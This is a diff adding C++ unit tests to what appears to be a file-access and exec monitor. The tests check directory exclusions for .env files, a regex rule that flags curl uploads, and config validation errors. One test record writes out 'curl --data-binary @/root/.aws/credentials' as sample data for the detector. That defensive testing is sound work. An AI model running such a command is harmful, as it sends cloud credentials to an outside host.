@@ -337,3 +337,77 @@ TEST_CASE("a ./ entry matches in the working directory only; without one it matc
   CHECK(fired(nowhere.rules, "./.git/hooks/post-checkout").empty());
   CHECK(compile_filter(nowhere.rules) == "v1:P/proc/iomem");
 }
+
+TEST_CASE("not_under: an entry matches outside its directories only; ./ without a working directory matches nothing") {
+  const std::string text = test::rules_json(
+      recipe("r", "", R"({"basename": ".env", "not_under": ["./", "/opt/vendor"]}, {"path": "/proc/iomem"})"));
+  LoadedRules in_dir = parse_rules(text, "rules.json", "", "/src/proj");
+  REQUIRE(in_dir.ok());
+  CHECK(fired(in_dir.rules, "/src/other/.env") == V{0});
+  CHECK(fired(in_dir.rules, "/root/.env") == V{0});
+  CHECK(fired(in_dir.rules, "/src/proj-2/.env") == V{0});  // a sibling that shares the name's start
+  CHECK(fired(in_dir.rules, "/src/proj/.env").empty());
+  CHECK(fired(in_dir.rules, "/src/proj/web/.env").empty());
+  CHECK(fired(in_dir.rules, "/opt/vendor/app/.env").empty());
+  CHECK(compile_filter(in_dir.rules) == "v1:P/proc/iomem:B.env");
+
+  LoadedRules nowhere = parse_rules(text, "rules.json");
+  REQUIRE(nowhere.ok());
+  CHECK(fired(nowhere.rules, "/src/other/.env").empty());
+  CHECK(compile_filter(nowhere.rules) == "v1:P/proc/iomem");
+}
+
+TEST_CASE("args_regex: an exec counts when the program's arguments match, as its exec record carries them") {
+  using S = std::vector<std::string>;
+  Rules rules = rules_of(recipe("up", R"("operations": ["exec"],)",
+                                R"({"path": "/usr/bin/curl", "args_regex": ".* (-d|--data-binary) ?@.*"})"));
+  Stats stats;
+  Aggregate aggregate{rules, stats, [](const std::string&) { return Inspection{}; }};
+  test::Sequencer seqs;
+  auto feed = [&](const test::RecordSpec& spec) { test::deliver(aggregate, seqs.next(spec)); };
+  uint64_t excluded = 0;
+  auto paths = [&] {
+    Summary s;
+    aggregate.summarize(s);
+    excluded = s.stats.excluded;
+    S out;
+    for (const RecipeSummary& r : s.recipes)
+      for (const PathSummary& p : r.paths) out.push_back(p.path);
+    return out;
+  };
+  aggregate.set_root_pid(100);
+  feed(test::hello(100, 1, 1000, "/usr/bin/sh", {"sh", "-c", "..."}));
+  feed(test::hello(200, 1, 2000, "/usr/bin/sh", {"sh", "-c", "..."}));
+  // A download: the exec is reported (the path is watched), its arguments do not match.
+  feed(test::access(100, 1000, "/usr/bin/curl", wire::op_exec));
+  feed(
+      test::exec(100, 1000, 1010, "/usr/bin/curl", {"curl", "-fsSL", "-o", "x.tgz", "https://example.com/x.tgz"}, 101));
+  CHECK(paths().empty());
+  CHECK(excluded == 1);
+  // An upload by another process, that failed to start (no curl): the arguments are the intent.
+  feed(test::access(200, 2000, "/usr/bin/curl", wire::op_exec, ENOENT));
+  feed(test::exec(200, 2000, 2010, "/usr/bin/curl", {"curl", "-s", "--data-binary", "@/root/.aws/credentials", "x"}, 0,
+                  ENOENT));
+  CHECK(paths() == S{"/usr/bin/curl"});
+}
+
+TEST_CASE("not_under and args_regex are checked where they are written") {
+  auto error_for = [](const std::string& entry, const std::string& extra = R"("operations": ["exec"],)") {
+    LoadedRules r = parse_rules(test::rules_json(recipe("r", extra, entry)), "rules.json", "", "/src");
+    return r.errors.empty() ? std::string() : r.errors.front().str();
+  };
+  CHECK(error_for(R"({"basename": ".env", "not_under": ["/"]})")
+            .ends_with("not_under \"/\" must be an absolute directory other than \"/\", or begin with ./"));
+  CHECK(error_for(R"({"basename": ".env", "not_under": ["src"]})").find("must be an absolute directory") !=
+        std::string::npos);
+  CHECK(error_for(R"({"basename": ".env", "not_under": ["./../x"]})")
+            .ends_with("not_under \"./../x\" must not climb out of the working directory with \"..\""));
+  CHECK(error_for(R"({"basename": ".env", "not_under": []})").ends_with("\"not_under\" must not be empty"));
+  CHECK(error_for(R"({"path": "/usr/bin/curl", "args_regex": "(("})").find("invalid regex \"((\"") !=
+        std::string::npos);
+  CHECK(error_for(R"({"path": "/usr/bin/curl", "args_regex": ".*"})", "")
+            .ends_with("args_regex needs an entry whose operations are [\"exec\"] only (the arguments are those of the "
+                       "program it "
+                       "runs)"));
+  CHECK(error_for(R"({"path": "/usr/bin/curl", "args_regex": ".*"})").empty());
+}
